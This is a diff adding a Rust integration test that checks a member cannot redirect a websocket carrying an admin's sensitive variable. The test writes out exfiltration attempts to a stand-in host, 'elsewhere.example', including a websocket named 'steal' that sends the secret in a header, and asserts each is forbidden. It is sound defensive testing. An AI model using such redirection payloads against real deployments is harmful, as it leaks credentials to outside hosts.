@@ -5,7 +5,9 @@
 use crate::git::{git_ok, url};
 use crate::helpers::*;
 use crate::ws_client::*;
+use elementd::store::tokens::Role;
 use futures::StreamExt;
+use reqwest::Method;
 use serde_json::{json, Value};
 use std::sync::{Arc, Mutex};
 use tokio::sync::mpsc;
@@ -284,4 +286,85 @@ async fn an_import_brings_variables_before_the_websockets_that_name_them() {
     assert_eq!((s.as_u16(), v["imported"].as_u64()), (200, Some(2)), "{v}");
     let (_, feed) = app.get("/api/beta/feed").await;
     assert_eq!(feed["spec"]["url"], "ws://{{ vars.host }}/feed");
+}
+
+/// A member cannot send an admin's secret elsewhere: pointing a link that
+/// sends a sensitive variable, or changing what it sends beside it, needs
+/// an admin.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_member_cannot_send_a_secret_elsewhere() {
+    let app = host_and_feed().await;
+    app.element(
+        "acme",
+        "variable",
+        "key",
+        json!({"value": "s3cret-admins", "sensitive": true}),
+    )
+    .await;
+    let (s, v) = app
+        .patch(
+            "/api/acme/feed/ops/update",
+            json!({"spec": {"url": "ws://{{ vars.host }}/feed",
+                            "headers": {"Authorization": "Bearer {{ vars.key }}"}}}),
+        )
+        .await;
+    assert_eq!(s.as_u16(), 200, "{v}");
+    let member = app.token("acme", Role::Member).await;
+    let before = app.state_of("acme", "feed").await;
+    let host = app.state_of("acme", "host").await;
+    let as_member = |method: Method, path: &'static str, body: Value| {
+        let member = member.clone();
+        let app = &app;
+        async move { app.call(method, path, Some(&member), Some(body)).await }
+    };
+    for (method, path, body) in [
+        (
+            Method::PATCH,
+            "/api/acme/feed/ops/update",
+            json!({"spec": {"url": "wss://elsewhere.example/x",
+                            "headers": {"Authorization": "Bearer {{ vars.key }}"}}}),
+        ),
+        (
+            Method::PATCH,
+            "/api/acme/host/ops/update",
+            json!({"spec": {"value": "elsewhere.example:443"}}),
+        ),
+        (
+            Method::POST,
+            "/api/acme/ops/create",
+            json!({"element_type": "websocket", "slug": "steal",
+                   "spec": {"url": "wss://elsewhere.example/", "headers": {"X-K": "{{ vars.key }}"}}}),
+        ),
+    ] {
+        assert_error(&as_member(method, path, body).await, 403, "FORBIDDEN");
+    }
+    assert_eq!(app.state_of("acme", "feed").await, before);
+    assert_eq!(app.state_of("acme", "host").await, host);
+    assert_error(&app.get("/api/acme/steal").await, 404, "ELEMENT_NOT_FOUND");
+    // What does not move the secret stays a member's to do.
+    let ok = as_member(
+        Method::PATCH,
+        "/api/acme/feed/ops/update",
+        json!({"spec": {"url": "ws://{{ vars.host }}/feed",
+                        "headers": {"Authorization": "Bearer {{ vars.key }}"},
+                        "heartbeat": {"interval_ms": 20000}}}),
+    )
+    .await;
+    assert_eq!(ok.0.as_u16(), 200, "{}", ok.1);
+    let ok = as_member(
+        Method::POST,
+        "/api/acme/ops/create",
+        json!({"element_type": "websocket", "slug": "plain",
+               "spec": {"url": "ws://{{ vars.host }}/plain"}}),
+    )
+    .await;
+    assert_eq!(ok.0.as_u16(), 201, "{}", ok.1);
+    // An admin may point it.
+    let (s, v) = app
+        .patch(
+            "/api/acme/host/ops/update",
+            json!({"spec": {"value": "127.0.0.1:10"}}),
+        )
+        .await;
+    assert_eq!(s.as_u16(), 200, "{v}");
 }
